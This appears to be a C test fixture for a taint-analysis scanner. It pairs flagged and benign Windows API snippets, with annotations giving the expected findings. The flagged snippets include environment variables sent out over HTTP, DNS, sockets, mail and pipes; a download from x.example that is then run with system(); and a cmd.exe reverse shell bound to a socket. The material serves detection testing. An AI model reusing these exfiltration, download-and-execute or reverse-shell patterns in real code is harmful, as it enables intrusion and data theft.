#include <windows.h>
#include <stdlib.h>
#include <sys/socket.h>

void out_WinHttpOpenRequest_1(HINTERNET h) {
    char *line = getenv("A"); //~ source(ENVIRONMENT) n1
    WinHttpOpenRequest(h, L"GET", line, NULL, NULL, NULL, 0); //~ sink(egress.http) n1, finding(traced) n1, capability(NETWORK)
}

void quiet_WinHttpOpenRequest_1(HINTERNET h) {
    WinHttpOpenRequest(h, L"GET", "ping", NULL, NULL, NULL, 0); //~ ok
}

void out_HttpOpenRequestA_2(HINTERNET h) {
    char *line = getenv("A"); //~ source(ENVIRONMENT) n2
    HttpOpenRequestA(h, "GET", line, NULL, NULL, NULL, 0, 0); //~ sink(egress.http) n2, finding(traced) n2, capability(NETWORK)
}

void quiet_HttpOpenRequestA_2(HINTERNET h) {
    HttpOpenRequestA(h, "GET", "ping", NULL, NULL, NULL, 0, 0); //~ ok
}

void out_HttpSendRequestExA_3(HINTERNET h) {
    char *line = getenv("A"); //~ source(ENVIRONMENT) n3
    HttpSendRequestExA(h, line, NULL, 0, 0); //~ sink(egress.http) n3, finding(traced) n3, capability(NETWORK)
}

void quiet_HttpSendRequestExA_3(HINTERNET h) {
    HttpSendRequestExA(h, "ping", NULL, 0, 0); //~ ok
}

void connects_WinHttpConnect_4(HINTERNET h) {
    WinHttpConnect(h, L"https://collector.example", 443, 0); //~ capability(NETWORK), endpoint("https://collector.example")
}

void talks_of_WinHttpConnect_4(HINTERNET h) {
    WinHttpConnect(h, getenv("HOST"), 443, 0); //~ ok
}

void sent_WinHttpQueryHeaders_5(HINTERNET h) {
    char buf[64];
    DWORD n = 64;
    WinHttpQueryHeaders(h, 0, NULL, buf, &n, NULL); //~ source(NETWORK) n5, capability(NETWORK)
    system(buf); //~ sink(exec.command) n5, finding(traced) n5
}

void kept_WinHttpQueryHeaders_5(HINTERNET h) {
    char buf[64];
    DWORD n = 64;
    WinHttpQueryHeaders(h, 0, NULL, buf, &n, NULL); //~ ok
}

void sent_HttpQueryInfoA_6(HINTERNET h) {
    char buf[64];
    DWORD n = 64;
    HttpQueryInfoA(h, 0, buf, &n, NULL); //~ source(NETWORK) n6, capability(NETWORK)
    system(buf); //~ sink(exec.command) n6, finding(traced) n6
}

void kept_HttpQueryInfoA_6(HINTERNET h) {
    char buf[64];
    DWORD n = 64;
    HttpQueryInfoA(h, 0, buf, &n, NULL); //~ ok
}

void out_WinHttpWebSocketSend_7(HINTERNET h) {
    char *line = getenv("A"); //~ source(ENVIRONMENT) n7
    WinHttpWebSocketSend(h, 0, line, 10); //~ sink(egress.message) n7, finding(traced) n7, capability(NETWORK)
}

void quiet_WinHttpWebSocketSend_7(HINTERNET h) {
    WinHttpWebSocketSend(h, 0, "ping", 10); //~ ok
}

void sent_WinHttpWebSocketReceive_8(HINTERNET h) {
    char buf[64];
    DWORD n;
    int type;
    WinHttpWebSocketReceive(h, buf, 64, &n, &type); //~ source(NETWORK) n8, capability(NETWORK)
    system(buf); //~ sink(exec.command) n8, finding(traced) n8
}

void kept_WinHttpWebSocketReceive_8(HINTERNET h) {
    char buf[64];
    DWORD n;
    int type;
    WinHttpWebSocketReceive(h, buf, 64, &n, &type); //~ ok
}

void sent_URLDownloadToCacheFileA_9(void) {
    char buf[64];
    URLDownloadToCacheFileA(NULL, "http://x.example/", buf, 64, 0, NULL); //~ source(NETWORK) n9, capability(NETWORK)
    system(buf); //~ sink(exec.command) n9, finding(traced) n9
}

void kept_URLDownloadToCacheFileA_9(void) {
    char buf[64];
    URLDownloadToCacheFileA(NULL, "http://x.example/", buf, 64, 0, NULL); //~ ok
}

void asked_DnsQuery_10(void) {
    char name[99] = "";
    DNS_RECORD *records;
    DnsQuery_A(strcat(name, getenv("A")), 1, 0, NULL, &records, NULL); //~ source(ENVIRONMENT) n10, sink(egress.dns) n10, finding(traced) n10, capability(DNS)
}

void asked_plain_DnsQuery_10(void) {
    DNS_RECORD *records;
    DnsQuery_A("x.example", 1, 0, NULL, &records, NULL); //~ ok
}

void asked_GetAddrInfoW_11(void) {
    char name[99] = "";
    GetAddrInfoW(strcat(name, getenv("A")), L"80", NULL, NULL); //~ source(ENVIRONMENT) n11, sink(egress.dns) n11, finding(traced) n11, capability(DNS)
}

void asked_plain_GetAddrInfoW_11(void) {
    GetAddrInfoW(L"x.example", L"80", NULL, NULL); //~ ok
}

void out_WSASendTo_12(SOCKET s) {
    char *line = getenv("A"); //~ source(ENVIRONMENT) n12
    WSABUF part;
    part.buf = line;
    WSASendTo(s, &part, 1, NULL, 0, NULL, 0, NULL, NULL); //~ sink(egress.socket) n12, finding(traced) n12, capability(NETWORK)
}

void quiet_WSASendTo_12(SOCKET s) {
    WSABUF part;
    part.buf = "ping";
    WSASendTo(s, &part, 1, NULL, 0, NULL, 0, NULL, NULL); //~ ok
}

void sent_TransmitFile_13(SOCKET s) {
    HANDLE file = CreateFileA("x", GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
    TransmitFile(s, file, 0, 0, NULL, NULL, 0); //~ source(FILE) n13, sink(egress.socket) n13, finding(file-upload, traced) n13
}

void kept_TransmitFile_13(SOCKET s) {
    keep(s, TransmitFile); //~ ok
}

void out_TransactNamedPipe_14(HANDLE h) {
    char *line = getenv("A"); //~ source(ENVIRONMENT) n14
    char buf[64];
    DWORD n;
    TransactNamedPipe(h, line, 10, buf, 64, &n, NULL); //~ sink(egress.ipc) n14, finding(traced) n14, capability(IPC)
}

void quiet_TransactNamedPipe_14(HANDLE h) {
    char buf[64];
    DWORD n;
    TransactNamedPipe(h, "ping", 10, buf, 64, &n, NULL); //~ ok
}

void out_MAPISendMail_15(void) {
    char *line = getenv("A"); //~ source(ENVIRONMENT) n15
    MapiMessage mail;
    mail.lpszNoteText = line;
    MAPISendMail(0, 0, &mail, 0, 0); //~ sink(egress.mail) n15, finding(traced) n15, capability(MAIL)
}

void quiet_MAPISendMail_15(void) {
    MapiMessage mail;
    mail.lpszNoteText = "ping";
    MAPISendMail(0, 0, &mail, 0, 0); //~ ok
}

void connection_as_input(struct sockaddr *to)
{
    SOCKET s = WSASocketA(2, 1, 6, 0, 0, 0); //~ source(NETWORK) wshell
    STARTUPINFOA si;
    WSAConnect(s, to, 16, 0, 0, 0, 0);
    si.hStdInput = si.hStdOutput = si.hStdError = (HANDLE)s;
    CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &si, 0); //~ sink(exec.command) wshell, finding(traced) wshell, capability(EXEC)
}

void pipe_as_input(void)
{
    HANDLE r, w;
    STARTUPINFOA si;
    SOCKET unused = WSASocketA(2, 1, 6, 0, 0, 0); //~ ok
    CreatePipe(&r, &w, 0, 0);
    si.hStdInput = r;
    CreateProcessA(0, "cmd.exe", 0, 0, 1, 0, 0, 0, &si, 0); //~ ok
}
